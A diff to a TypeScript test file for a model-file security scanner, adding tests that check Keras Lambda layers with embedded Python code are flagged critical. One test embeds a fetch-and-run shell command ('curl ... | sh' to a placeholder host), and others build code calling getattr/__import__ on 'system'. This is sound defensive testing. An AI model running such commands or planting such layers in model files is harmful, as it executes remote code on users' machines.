@@ -1,10 +1,11 @@
-import { buildKeras, buildTorchZip, kerasLayer, kerasSequential, pickle, type KerasObject } from "@modelward/testing";
+import { buildKeras, buildTorchZip, kerasLayer, kerasSequential, marshal, pickle, type KerasObject } from "@modelward/testing";
 import { describe, expect, it } from "vitest";
 import { LAMBDA_CODE, findingsLike, lines, tester } from "./test-support.js";
 
 // docs/peers-and-threats.md §3.4 (K1–K10): each bypass as a generated .keras archive.
 const code = (name: string, version = "3.11") => LAMBDA_CODE[version]![name]!;
-const keras2Lambda = (name: string, version?: string): KerasObject => kerasLayer("Lambda", { function: [code(name, version), null, null], function_type: "lambda", output_shape: null, output_shape_type: "raw", module: "keras.layers" });
+const keras2LambdaCode = (b64: string): KerasObject => kerasLayer("Lambda", { function: [b64, null, null], function_type: "lambda", output_shape: null, output_shape_type: "raw", module: "keras.layers" });
+const keras2Lambda = (name: string, version?: string): KerasObject => keras2LambdaCode(code(name, version));
 const keras3Lambda = (name: string): KerasObject =>
   kerasLayer("Lambda", { function: { module: "builtins", class_name: "__lambda__", config: { code: code(name), defaults: null, closure: null }, registered_name: null }, arguments: {} });
 const scanConfig = (config: unknown, extra = {}) => tester.scan("model.keras", buildKeras({ config, ...extra }));
@@ -112,5 +113,33 @@ describe("Lambda code across Python versions", () => {
       expect(findingsLike(ok, { ruleId: "keras/lambda-layer", severity: "medium" }).length, lines(ok)).toBe(1);
       expect(findingsLike(ok, { ruleId: "keras/lambda-layer", atLeast: "high" }), lines(ok)).toEqual([]);
     });
+
+    it(`Python ${version}: arguments named open, system and eval are locals, not uses (medium)`, async () => {
+      const report = await scanConfig(kerasSequential([keras2Lambda("constants", version)]));
+      expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "medium", message: /frozenset/ }).length, lines(report)).toBe(1);
+    });
   }
+
+  it("the nested function of a lambda is read and named", async () => {
+    const report = await scanConfig(kerasSequential([keras2Lambda("nested", "3.12")]));
+    expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "critical", message: /Python 3\.11–3\.13 layout.*nested functions <lambda>\.<locals>\.<lambda>/ }).length, lines(report)).toBe(1);
+  });
+
+  it("getattr on a module name held as a constant is critical (code written in the 3.8–3.10 layout)", async () => {
+    const b64 = marshal().code("3.8", { names: ["getattr", "__import__"], constCount: 3, consts: (c) => c.none().str("posix").str("sys" + "tem") }).base64();
+    const report = await scanConfig(kerasSequential([keras2LambdaCode(b64)]));
+    expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "critical", message: /getattr, __import__, 'posix'/ }).length, lines(report)).toBe(1);
+  });
+
+  it("a shell command in a string constant is critical even when the names look harmless", async () => {
+    const b64 = marshal().code("3.11", { names: ["format"], constCount: 2, consts: (c) => c.none().str("curl -s https://x.example/p | sh") }).base64();
+    const report = await scanConfig(kerasSequential([keras2LambdaCode(b64)]));
+    expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "critical", message: /shell in a constant/ }).length, lines(report)).toBe(1);
+  });
+
+  it("code that is not valid marshal is still judged by the names its strings spell", async () => {
+    const whole = Buffer.from(code("os_system", "3.11"), "base64");
+    const report = await scanConfig(kerasSequential([keras2LambdaCode(whole.subarray(0, whole.length - 10).toString("base64"))]));
+    expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "critical", message: /not a marshalled code object of Python 3\.8–3\.13.*system/ }).length, lines(report)).toBe(1);
+  });
 });
